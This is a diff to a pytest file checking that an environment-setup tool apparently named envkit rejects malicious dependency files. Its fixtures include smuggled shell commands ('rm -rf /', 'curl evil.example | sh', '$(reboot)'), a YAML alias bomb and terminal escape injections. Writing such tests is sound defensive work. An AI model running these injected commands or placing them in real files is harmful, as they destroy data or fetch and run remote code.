@@ -34,7 +34,10 @@ def written(tmp_path: Path) -> list[Path]:
     [
         ("environment.yml", "name: x\ndependencies:\n  - numpy=1.26; rm -rf /\n"),
         ("environment.yml", "name: x\ndependencies:\n  - numpy$(curl evil.example)\n"),
-        ("environment.yml", "name: x\ndependencies:\n  - pip:\n    - requests==2.31 && curl evil.example | sh\n"),
+        (
+            "environment.yml",
+            "name: x\ndependencies:\n  - pip:\n    - requests==2.31 && curl evil.example | sh\n",
+        ),
         ("requirements.txt", "numpy==1.26.4\nrequests==2.31.0 `id`\n"),
         ("Dockerfile", "FROM python:3.11\nRUN pip install 'numpy==1.26;$(reboot)'\n"),
     ],
@@ -83,42 +86,58 @@ def test_dockerfile_curl_pipe_sh_is_reported_not_run(
     assert "numpy==1.26.4" in written(tmp_path)[0].read_text()
 
 
-def test_huge_file_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:  # noqa: E501
+def test_huge_file_is_refused(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
     code, _, err = run(tmp_path, monkeypatch, capsys, "requirements.txt", "numpy==1.26.4\n" * 400_000)
     assert code == 2 and "larger than" in err and written(tmp_path) == []
 
 
-def test_deeply_nested_yaml_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:  # noqa: E501
+def test_deeply_nested_yaml_is_refused(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
     text = "name: x\ndependencies:\n  - " + "[" * 5000 + "]" * 5000 + "\n"
     code, _, err = run(tmp_path, monkeypatch, capsys, "environment.yml", text)
     assert code == 2 and "nested deeper" in err and written(tmp_path) == []
 
 
-def test_yaml_alias_bomb_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:  # noqa: E501
+def test_yaml_alias_bomb_is_refused(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
     text = 'a: &a ["x","x"]\nb: &b [*a,*a]\nc: &c [*b,*b]\nname: x\ndependencies: [*c]\n'
     code, _, err = run(tmp_path, monkeypatch, capsys, "environment.yml", text)
     assert code == 2 and written(tmp_path) == []
     assert "error:" in err
 
 
-def test_recursive_include_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:  # noqa: E501
+def test_recursive_include_is_refused(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
     code, _, err = run(tmp_path, monkeypatch, capsys, "requirements.txt", "-r requirements.txt\nnumpy==1\n")
     assert code == 2 and "nest deeper" in err and written(tmp_path) == []
 
 
-def test_not_a_source(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
+def test_not_a_source(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
     code, _, err = run(tmp_path, monkeypatch, capsys, "notes.md", "# Hello\n\nSome prose, not packages.\n")
     assert code == 2 and "not a source envkit init reads" in err and written(tmp_path) == []
 
 
-def test_binary_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
+def test_binary_file(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
     monkeypatch.setenv("ENVKIT_ROOT", str(tmp_path))
     (tmp_path / "blob.txt").write_bytes(b"\xff\xfe\x00garbage")
     assert main(["init", "--from", str(tmp_path / "blob.txt")]) == 2
     assert "not UTF-8" in capsys.readouterr().err
 
 
-def test_terminal_controls_are_neutralised(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:  # noqa: E501
-    code, out, _ = run(tmp_path, monkeypatch, capsys, "requirements.txt", "numpy==1.26.4\n-e ./x\x1b]0;pwned\x07\n")
+def test_terminal_controls_are_neutralised(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    code, out, _ = run(
+        tmp_path, monkeypatch, capsys, "requirements.txt", "numpy==1.26.4\n-e ./x\x1b]0;pwned\x07\n"
+    )
     assert code in (0, 2)
     assert "\x1b" not in out and "\x1b" not in "".join(p.read_text() for p in written(tmp_path))
